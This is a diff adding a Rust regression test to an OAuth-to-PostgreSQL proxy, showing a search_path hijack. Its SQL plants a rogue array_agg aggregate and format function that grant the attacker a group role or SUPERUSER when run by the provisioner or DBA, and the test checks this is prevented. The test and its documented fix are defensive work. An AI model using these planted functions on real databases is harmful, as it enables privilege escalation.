@@ -295,3 +295,50 @@ fn defect_an_unreadable_include_lets_two_issuers_reach_one_role() {
         pg.log().lines().filter(|l| l.contains("gprxy: oauth login")).collect::<Vec<_>>().join("\n")
     );
 }
+
+/// DEFECT (fails on 407154c). Neither the provisioner's session nor the extension's SQL
+/// functions pin `search_path`. Where a token holder can CREATE in a schema on the path (here
+/// `public`, as on clusters upgraded from PostgreSQL <= 14 or wherever the DBA granted it), the
+/// provisioned user `alice` defines `public.array_agg(text)` and `public.format(text, name[, name])`:
+/// an exact-type match beats pg_catalog's polymorphic ones (CVE-2018-1058's pattern). (1) The
+/// provisioner's membership query calls alice's aggregate as `gprxy_provisioner` (CREATEROLE,
+/// ADMIN on the managed groups): it grants alice `app_writer`, which her token never named, and
+/// hides it from sync. (2) The DBA, as superuser, runs `gprxy.drop_provisioned_role` for some other
+/// role: its `format()` is alice's, and alice becomes SUPERUSER. Fix: in the worker, `SET
+/// search_path = pg_catalog, pg_temp` after connecting (and schema-qualify); declare the
+/// extension's functions with `SET search_path = pg_catalog, pg_temp`.
+#[test]
+fn defect_a_writable_schema_on_the_path_hijacks_the_provisioner_and_the_drop_function() {
+    let s = setup("sync", "eng:app_reader,ops:app_writer", &[]);
+    s.pg.sql("GRANT CREATE ON SCHEMA public TO PUBLIC");
+    assert_eq!(s.login("alice", "alice", &["eng"]).unwrap(), "alice|oauth:alice");
+    assert_eq!(s.login("bob", "bob", &["eng"]).unwrap(), "bob|oauth:bob");
+    // alice, in her token's session, plants the two functions.
+    let planted = s.login_sql(
+        "alice",
+        "alice",
+        &["eng"],
+        "CREATE FUNCTION public.step(text[], text) RETURNS text[] LANGUAGE plpgsql AS $f$ BEGIN \
+           IF current_user = 'gprxy_provisioner' AND NOT pg_has_role('alice', 'app_writer', 'MEMBER') THEN \
+             EXECUTE 'GRANT app_writer TO alice'; END IF; \
+           IF $2 = 'app_writer' THEN RETURN $1; END IF; RETURN $1 || $2; END $f$;\n\
+         CREATE AGGREGATE public.array_agg(text) (sfunc = public.step, stype = text[]);\n\
+         CREATE FUNCTION public.format(text, name, name) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN \
+           IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN EXECUTE 'ALTER ROLE alice SUPERUSER'; END IF; \
+           RETURN pg_catalog.format($1, $2, $3); END $f$;\n\
+         CREATE FUNCTION public.format(text, name) RETURNS text LANGUAGE sql AS $f$ SELECT pg_catalog.format($1, $2) $f$;\n\
+         SELECT 'planted'",
+    );
+    assert_eq!(planted.as_deref(), Ok("planted"), "{planted:?}");
+    // Any request that reaches the worker runs the membership query: bob's changed groups will do.
+    assert!(s.login("bob", "bob", &["eng", "ops"]).is_ok(), "{}", s.last_audit());
+    let alice_groups = s.members("alice");
+    // The DBA tidies up bob's role with the documented function.
+    let _ = s.pg.try_sql("SELECT gprxy.drop_provisioned_role('bob', 'postgres')");
+    let alice_super = s.pg.sql("SELECT rolsuper FROM pg_roles WHERE rolname = 'alice'");
+    assert!(
+        !alice_groups.contains("app_writer") && alice_super == "f",
+        "alice's planted functions ran as the provisioner and as the DBA: alice is a member of \
+         {alice_groups:?} (her token names only eng), rolsuper={alice_super}"
+    );
+}
